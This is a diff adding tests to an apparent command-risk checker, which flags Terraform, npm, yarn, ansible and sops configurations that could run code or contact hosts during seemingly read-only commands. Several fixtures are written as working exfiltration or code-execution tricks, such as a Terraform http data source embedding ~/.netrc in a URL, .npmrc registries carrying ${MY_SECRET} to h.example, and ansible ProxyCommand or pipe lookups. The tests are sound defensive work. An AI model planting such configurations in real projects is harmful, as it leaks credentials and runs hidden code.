@@ -279,6 +279,145 @@ describe('modules, providers and other folders of Terraform', () => {
   });
 });
 
+describe('whatever of Terraform is started or called while it plans', () => {
+  const many = Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`a${i}.tf`, '']));
+  const external = 'data "external" "x" {\n  program = ["./evil"]\n}\n';
+  const starts = async (files: Readonly<Record<string, string>>, command = 'terraform plan'): Promise<boolean> =>
+    (await judged(await workspace(files), command)).risk === 'unknown';
+
+  test.each([
+    'data "shell_script" "x" {\n  lifecycle_commands {\n    read = "touch x"\n  }\n}\n',
+    'data "local_command" "x" {\n  command = "touch"\n}\n',
+    'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
+    'ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
+    'data "archive_file" "x" {\n  output_path = "/etc/x"\n}\n',
+    'data "http" "x" {\n  url = "https://a.example"\n  method = "POST"\n}\n',
+    'data "http" "x" {\n  url = "https://a.example/${file("~/.netrc")}"\n}\n',
+    'data "http" "x" {\n  method = "POST"\n  request_headers = {\n    url = "x"\n  }\n}\n',
+    'data external x {\n}\n',
+    'data /* a */ "external" /* b */ "x" {\n}\n',
+    'data # a\n"external" "x" {\n}\n',
+    'data"external""x"{}\n',
+    'data "\\u0065xternal" "x" {}\n',
+    'provider "helm" {\n  kubernetes = {\n    exec = {\n      command = "./x"\n    }\n  }\n}\n',
+    'provider "kubernetes" {\n  exec {\n    command = "./x"\n  }\n}\n',
+    'provider "aws" {\n  shared_config_files = ["./cfg"]\n}\n',
+    'provider "aws" {\n  shared_config_files = [\n    "~/.aws/config",\n    "./cfg",\n  ]\n}\n',
+    'provider "kubernetes" {\n  config_path = "${path.module}/k"\n}\n',
+  ])('%j', async (text) => {
+    expect(await starts({ 'main.tf': text })).toBe(true);
+  });
+
+  test.each([
+    'data "aws_ami" "x" {}\n\ndata "aws_caller_identity" "me" {}\n',
+    'data "http" "ip" {\n  url = "https://checkip.example" # ours\n}\n',
+    '# data "external" "x" {}\n/* data external x { */\n',
+    'resource "x" "y" {\n  description = "data external"\n  url = "https://a.example/*/b"\n}\n',
+    'provider "aws" {\n  shared_config_files = ["~/.aws/config"]\n}\n',
+    'provider "kubernetes" {\n  config_path = "~/.kube/config"\n}\n',
+    'variable "database" {\n  default = {}\n}\nlocals {\n  metadata = { a = 1 }\n  execution = {}\n}\n',
+  ])('not %j', async (text) => {
+    expect(await starts({ 'main.tf': text })).toBe(false);
+  });
+
+  test('behind many other files, and where modules are brought to', async () => {
+    expect(await starts({ ...many, 'zz.tf': external })).toBe(true);
+    expect(await starts(many)).toBe(false);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': external })).toBe(true);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/sub/in/x.tf': external })).toBe(true);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': 'data "aws_ami" "x" {}\n' })).toBe(false);
+    expect(await starts({ 'main.tf.json': '{"data":[{"ext\\u0065rnal":{"x":{}}}]}' })).toBe(true);
+    expect(await starts({ 'main.tf.json': '{"data":{"aws_ami":{"x":{}}}}' })).toBe(false);
+  });
+
+  test.each(['tofu plan', 'tofu show', 'tofu output', 'tofu state list'])('the key of a state: %s', async (command) => {
+    const key = (kind: string, what = 'key_provider'): Readonly<Record<string, string>> => ({
+      'main.tf': `terraform {\n  encryption {\n    ${what} "${kind}" "x" {\n      command = ["./x"]\n    }\n  }\n}\n`,
+    });
+    expect(await starts(key('external'), command)).toBe(true);
+    expect(await starts(key('external', 'method'), command)).toBe(true);
+    expect(
+      await starts({ 'x.tofu.json': '{"terraform":{"encryption":{"key_provider":{"external":{"x":{}}}}}}' }, command),
+    ).toBe(true);
+    expect(await starts(key('pbkdf2'), command)).toBe(false);
+  });
+});
+
+describe('a registry that a folder names is not asked unasked', () => {
+  test.each([
+    ['.npmrc', 'registry=http://h.example/${MY_SECRET}/\n', 'npm view left-pad'],
+    ['.npmrc', '//h.example/:_authToken=${MY_SECRET}\n', 'npm ping'],
+    ['.npmrc', '@a:registry=https://h.example/\n', 'npm outdated'],
+    ['.npmrc', 'registry = "https://registry.npmjs.org.h.example/"\n', 'npm search foo'],
+    ['.npmrc', 'user-agent=${MY_SECRET}\n', 'pnpm view left-pad'],
+    ['.npmrc', 'https-proxy=http://h.example\n', 'npm view left-pad'],
+    ['.npmrc', 'logs-dir=/home/u/x\n', 'npm ls'],
+    ['.npmrc', 'cache=../../x\n', 'npm root'],
+    ['.yarnrc.yml', 'npmRegistryServer: "https://h.example/${X}"\n', 'yarn npm info left-pad'],
+    ['.yarnrc', 'registry "https://h.example"\n', 'yarn info left-pad'],
+  ])('%s with %j: %s', async (file, text, command) => {
+    expect((await judged(await workspace({ [file]: text }), command)).risk).toBe('unknown');
+  });
+
+  test.each([
+    ['.npmrc', 'registry=https://registry.npmjs.org/\nsave-exact=true\n', 'npm view left-pad'],
+    ['.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n', 'npm view left-pad'],
+    ['.npmrc', '@a:registry=https://npm.pkg.github.com\n', 'npm outdated'],
+    ['.npmrc', 'registry=https://h.example/\n', 'npm ls'],
+    ['.npmrc', '# registry=https://h.example/${X}\n; ${X}\n', 'npm view left-pad'],
+    ['.npmrc', 'cache=.npm\n', 'npm ls'],
+  ])('not %s with %j: %s', async (file, text, command) => {
+    expect((await judged(await workspace({ [file]: text }), command)).risk).toBe('reads');
+  });
+});
+
+test('code of a site in a folder that the command names, but not of one elsewhere', async () => {
+  const risk = async (files: Readonly<Record<string, string>>, command: string): Promise<string> =>
+    (await judged(await workspace(files), command)).risk;
+  for (const command of ['wp --path=site plugin list', 'wp plugin list --path="./site"'])
+    expect(await risk({ 'site/wp-config.php': '' }, command), command).toBe('unknown');
+  for (const command of ['drush status --root=site', 'drush -r site status', 'drush --root site status'])
+    expect(await risk({ 'site/vendor/autoload.php': '' }, command), command).toBe('unknown');
+  for (const command of ['wp --path=/var/www/html plugin list', 'wp --path=other plugin list'])
+    expect(await risk({ 'site/wp-config.php': '' }, command), command).toBe('reads');
+});
+
+describe('inventories and encrypted files that a command names', () => {
+  test.each<readonly [string, Readonly<Record<string, string>>]>([
+    ['ansible -i hosts all -m setup', { hosts: 'a ansible_connection=local ansible_python_interpreter=./x\n' }],
+    ['ansible all -i ./hosts -m ping', { hosts: 'a ansible_ssh_common_args="-o ProxyCommand=./x"\n' }],
+    ['ansible -ihosts all -m ping', { hosts: 'a ansible_ssh_executable=./x\n' }],
+    ['ansible --inventory=hosts all -m debug', { hosts: "a x=\"{{ lookup('pipe','touch y') }}\"\n" }],
+    ['ansible -i hosts all -m debug', { hosts: "a x=\"{{ lookup('pi' ~ 'pe','touch y') }}\"\n" }],
+    ['ansible -i inv all -m ping', { 'inv/prod.yml': 'all:\n  vars:\n    ansible_become_exe: ./x\n' }],
+    [
+      'ansible -i inv/hosts all -m ping',
+      { 'inv/hosts': 'a\n', 'inv/group_vars/all/x.yml': 'ansible_python_interpreter: ./x\n' },
+    ],
+    ['ansible -i hosts all -m ping', { hosts: '#!/bin/sh\ntouch y\n' }],
+    ['sops -d f.yaml', { 'f.yaml': 'a: ENC[x]\nsops:\n  hc_vault:\n    - vault_address: http://h.example\n' }],
+    ['sops -d f.json', { 'f.json': '{"sops":{"hc_vault":[{"vault_address":"http://h.example"}]}}' }],
+    [
+      'sops --decrypt f.yaml',
+      { 'f.yaml': 'sops:\n    hc_vault:\n        - engine_path: x\n          vault_address: http://h\n' },
+    ],
+  ])('%s', async (command, files) => {
+    expect((await judged(await workspace(files), command)).risk).toBe('unknown');
+  });
+
+  test.each<readonly [string, Readonly<Record<string, string>>]>([
+    ['ansible -i hosts all -m ping', { hosts: '[web]\na ansible_host=10.0.0.1 ansible_user=ops\n' }],
+    ['ansible -i hosts all -m ping', { hosts: 'a ansible_python_interpreter=/usr/bin/python3 ansible_port=22\n' }],
+    ['ansible -i hosts all -m ping', { hosts: "a ansible_ssh_common_args='-o StrictHostKeyChecking=no'\n" }],
+    ['ansible -i hosts all -m ping', { hosts: "a k=\"{{ lookup('env', 'HOME') }}\"\n" }],
+    ['ansible -i hosts all -m ping', { hosts: 'a\n', other: 'a ansible_python_interpreter=./x\n' }],
+    ['sops -d f.yaml', { 'f.yaml': 'a: ENC[x]\nsops:\n  kms: []\n  hc_vault: []\n' }],
+  ])('not %s: %j', async (command, files) => {
+    const { risk, concerns } = await judged(await workspace(files), command);
+    expect([risk, concerns]).toEqual(['reads', []]);
+  });
+});
+
 describe('code and settings in the folder that a reading program loads', () => {
   test.each([
     ['knife node list', '.chef/knife.rb'],
